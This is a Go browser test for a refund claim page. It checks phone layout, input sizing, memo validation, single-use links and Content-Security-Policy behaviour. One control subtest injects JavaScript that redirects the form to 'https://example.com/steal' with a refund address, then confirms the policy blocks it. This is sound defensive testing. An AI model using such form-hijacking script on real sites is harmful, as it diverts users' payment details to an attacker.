package api_test

import (
	"context"
	"net/url"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/memocart/memocart/models"
	"github.com/memocart/memocart/models/sqlstore"
)

// claimFacts is what the test reads from the claim page on a phone.
type claimFacts struct {
	Heading    string   `json:"heading"`
	Overflow   bool     `json:"overflow"`
	Violations []string `json:"violations"`
	Text       string   `json:"text"`
	BodyBG     string   `json:"bodyBG"`
	// Inputs are the form's controls as laid out: their font size (below
	// 16 px a phone zooms in on focus) and height (a thumb's target).
	Inputs []struct {
		ID       string  `json:"id"`
		FontSize float64 `json:"fontSize"`
		Height   float64 `json:"height"`
		Width    float64 `json:"width"`
	} `json:"inputs"`
	ViewWidth float64 `json:"viewWidth"`
}

const readClaimFacts = `(() => {
  const h1 = document.querySelector("h1");
  return {
    heading: h1 ? h1.textContent : "",
    overflow: document.documentElement.scrollWidth > window.innerWidth,
    violations: window.__csp || [],
    text: document.body.innerText,
    bodyBG: getComputedStyle(document.body).backgroundColor,
    inputs: [...document.querySelectorAll("input, select, button")].map((e) => {
      const r = e.getBoundingClientRect();
      return {id: e.id, fontSize: parseFloat(getComputedStyle(e).fontSize), height: r.height, width: r.width};
    }),
    viewWidth: window.innerWidth,
  };
})()`

// TestClaimPageInBrowser opens a refund's claim page in headless Chromium
// on a phone-sized screen, fills the form in, submits it and sees the
// confirmation: the page's own style and script run under its policy
// with nothing blocked, the form posts back to itself under form-action
// 'self', the inputs are large enough for a thumb, and nothing is wider
// than the screen. The refund then awaits approval with that destination.
func TestClaimPageInBrowser(t *testing.T) {
	newTab := browser(t)
	dir := screenshotDir(t)
	t.Logf("screenshots in %s", dir)
	e := newOrdersEnv(t, sqlstore.DialectSQLite)
	key, _ := e.accountKey(t, "acme", models.ModeTest, models.TierFree)

	phone := chromedp.EmulateViewport(390, 844, chromedp.EmulateMobile)
	readFacts := func(t *testing.T, tab context.Context) claimFacts {
		t.Helper()
		facts, err := chromedp.Run(tab, chromedp.Evaluate[claimFacts](readClaimFacts))
		require.NoError(t, err)
		return facts
	}

	t.Run("fill in and submit on a phone", func(t *testing.T) {
		c := e.newClaimRefund(t, key)
		amount := e.readRefund(t, key, c.refundID).Amount
		tab := newTab(t, phone)
		visit(t, tab, e.ts.URL+"/claim/"+c.token, dir, "claim-form-phone")
		facts := readFacts(t, tab)
		assert.Empty(t, facts.Violations, "no Content-Security-Policy violation")
		assert.Equal(t, "Where should your refund go?", facts.Heading)
		assert.Contains(t, facts.Text, amount+" USDC")
		assert.False(t, facts.Overflow, "nothing wider than the screen")
		assert.Equal(t, "rgb(244, 245, 247)", facts.BodyBG, "the page's own style applied")
		require.Len(t, facts.Inputs, 4, "address, memo type, memo, the button")
		for _, in := range facts.Inputs {
			assert.GreaterOrEqualf(t, in.FontSize, 16.0, "%s: large enough that a phone does not zoom in", in.ID)
			assert.GreaterOrEqualf(t, in.Height, 44.0, "%s: a thumb's target", in.ID)
			assert.Greaterf(t, in.Width, facts.ViewWidth*0.75, "%s: across the screen", in.ID)
		}

		submitClaimForm(t, tab, "1234567", "#done")
		done := readFacts(t, tab)
		assert.Equal(t, "Thank you", done.Heading)
		assert.Contains(t, done.Text, "Address received")
		assert.Empty(t, done.Violations, "no violation on the form's way or the confirmation: form-action 'self' allows it")
		assert.False(t, done.Overflow)
		shot(t, tab, dir, "claim-done-phone")

		e.requireClaimed(t, key, c.refundID, "id", "1234567")

		visit(t, tab, e.ts.URL+"/claim/"+c.token, dir, "claim-used")
		used := readFacts(t, tab)
		assert.Equal(t, "This link does not work", used.Heading)
		assert.Empty(t, used.Violations)
	})

	t.Run("a refused memo on a phone", func(t *testing.T) {
		c := e.newClaimRefund(t, key)
		tab := newTab(t, phone)
		visit(t, tab, e.ts.URL+"/claim/"+c.token, dir, "claim-form-again")
		submitClaimForm(t, tab, "not a number", "#error")
		facts := readFacts(t, tab)
		assert.Contains(t, facts.Text, "An id memo must be a whole number")
		assert.Empty(t, facts.Violations)
		assert.False(t, facts.Overflow)
		address, err := chromedp.Run(tab, chromedp.Value(chromedp.CSS("#address")))
		require.NoError(t, err)
		assert.Equal(t, refundAccount, address, "what was typed is kept")
		shot(t, tab, dir, "claim-refused-phone")
		assert.Equal(t, "awaiting_destination", e.readRefund(t, key, c.refundID).Status)
	})

	t.Run("the policy keeps the form at home", func(t *testing.T) {
		// A control for the checks above: pointed at another site, the
		// form is blocked and the block recorded, so an empty record
		// means something.
		c := e.newClaimRefund(t, key)
		tab := newTab(t)
		visit(t, tab, e.ts.URL+"/claim/"+c.token, dir, "claim-control")
		_, err := chromedp.Run(tab, chromedp.Evaluate[bool](`(() => {
  const f = document.getElementById("claim-form");
  f.action = "https://example.com/steal";
  document.getElementById("address").value = "`+refundAccount+`";
  f.requestSubmit();
  return true;
})()`))
		require.NoError(t, err)
		require.NoError(t, chromedp.Do(tab, chromedp.Sleep(300*time.Millisecond)))
		facts := readFacts(t, tab)
		assert.NotEmpty(t, facts.Violations, "the submission elsewhere is reported")
		loc, err := chromedp.Run(tab, chromedp.Location())
		require.NoError(t, err)
		u, err := url.Parse(loc)
		require.NoError(t, err)
		assert.Equal(t, "/claim/"+c.token, u.Path, "and blocked: still on the page")
		assert.Equal(t, "awaiting_destination", e.readRefund(t, key, c.refundID).Status)
	})
}

// shot saves a full-page screenshot of tab as name.png in dir.
func shot(t *testing.T, tab context.Context, dir, name string) {
	t.Helper()
	b, err := chromedp.Run(tab, chromedp.FullScreenshot(100))
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(filepath.Join(dir, name+".png"), b, 0o644))
}

// submitClaimForm types refundAccount and an id memo into the claim form,
// submits it, and waits until the element shown is visible.
func submitClaimForm(t *testing.T, tab context.Context, memo, shown string) {
	t.Helper()
	require.NoError(t, chromedp.Do(tab,
		chromedp.SendKeys(chromedp.CSS("#address"), refundAccount),
		chromedp.SetValue(chromedp.CSS("#memo_type"), "id"),
		chromedp.SendKeys(chromedp.CSS("#memo"), memo),
		chromedp.Click(chromedp.CSS("#submit")),
		chromedp.WaitVisible(chromedp.CSS(shown)),
	))
}
